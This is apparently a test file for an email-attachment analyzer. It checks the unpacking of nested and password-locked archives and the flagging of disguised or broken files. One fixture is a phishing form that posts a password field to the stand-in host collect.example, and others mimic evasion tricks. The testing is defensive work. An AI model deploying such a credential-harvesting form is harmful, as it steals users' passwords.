import { strToU8, zipSync } from 'fflate';
import { describe, expect, it } from 'vitest';
import { GREEDY_7Z, HIDDEN_7Z, PACKED_TAR, rar, udfImage } from '../src/adapters/file-tools/archives.fixture.ts';
import { files } from '../src/findings/attached-files.fixture.ts';
import { dissectFixed, mailOf } from './shipped.ts';

const PAGE = '<form action="https://collect.example/in"><input type="password"></form>';

/** What a mail that carries the archive leads to, and the paths of all the files that were looked at. */
async function lookedInto(name: string, bytes: Uint8Array, text = 'See the file.') {
  const { evidence, dissection } = await dissectFixed(mailOf({ text, attachment: files.any(name, 'application/octet-stream', bytes) }), null);
  const attachments = evidence.observations.filter((seen) => seen.kind === 'attachment');
  return {
    attachments, hosts: evidence.observations.flatMap((seen) => (seen.kind === 'link' ? [seen.host] : [])), paths: attachments.map(({ path }) => path.join(' > ')),
    rules: dissection.findings.map(({ rule }) => rule), codes: dissection.verdict.notKnown.map(({ code }) => code),
  };
}

describe('what lies in an archive in an archive is read', { timeout: 60_000 }, () => {
  it('a page in a RAR in a ZIP', async () => {
    const { hosts, paths } = await lookedInto('a.zip', zipSync({ 'b.rar': rar('inner.html', PAGE, null) }));
    expect(paths).toEqual(['a.zip', 'a.zip > b.rar', 'a.zip > b.rar > inner.html']);
    expect(hosts).toContain('collect.example');
  });

  it('a page in a locked 7z in a ZIP, with the password of the mail', async () => {
    const { hosts, paths, rules } = await lookedInto('a.zip', zipSync({ 'b.7z': HIDDEN_7Z }), 'The file is protected.\nPassword: 4471');
    expect(paths.at(-1)).toBe('a.zip > b.7z > inner.html');
    expect(hosts).toContain('collect.example');
    expect(rules).toContain('attachment-password-beside');
  });

  it('a page in a tape archive that xz has packed', async () => {
    const { paths } = await lookedInto('a.tar.xz', PACKED_TAR);
    expect(paths).toEqual(['a.tar.xz', 'a.tar.xz > a.tar', 'a.tar.xz > a.tar > inner.html']);
  });

  it('a page in a disk image that has UDF alone', async () => {
    const { hosts, paths, attachments } = await lookedInto('invoice.img', udfImage());
    expect(attachments[0]).toMatchObject({ trueType: 'application/x-iso9660-image', outcome: { kind: 'found', value: { format: 'archive', kind: 'iso', count: 1 } } });
    expect(paths).toEqual(['invoice.img', 'invoice.img > inner.html']);
    expect(hosts).toContain('collect.example');
  });

  it('an ACE is told as what it is, and as not opened', async () => {
    const ace = Uint8Array.from([0x12, 0x34, 0x31, 0, 0, 0, 0x90, ...strToU8('**ACE**'), ...new Uint8Array(40)]);
    const { attachments, codes } = await lookedInto('order.jpg', ace);
    expect(attachments[0]).toMatchObject({ trueType: 'application/x-ace', isOtherThanNamed: true, outcome: { kind: 'failed', code: 'ace-not-opened' } });
    expect(codes).toContain('ace-not-opened');
  });

  it('a locked RAR whose password nobody tells is listed, and told as not looked into', async () => {
    const { attachments, paths } = await lookedInto('a.rar', rar('bill.exe', 'MZ', 'secret'));
    expect(paths).toEqual(['a.rar']);
    expect(attachments[0]).toMatchObject({ outcome: { kind: 'found', value: { kind: 'rar', isEncrypted: true, password: null, files: [{ name: 'bill.exe', actsAs: 'program' }] } } });
  });

  it('one that asks for more memory than there is, and one that is cut short, are told as not checked', async () => {
    expect((await lookedInto('a.7z', GREEDY_7Z)).codes).toContain('limit');
    expect((await lookedInto('a.7z', HIDDEN_7Z.subarray(0, 100))).codes).toContain('archive-broken');
    expect((await lookedInto('a.zip', zipSync({ 'a.html': strToU8(PAGE) }).subarray(0, 60))).codes).toContain('archive-broken');
  });
});
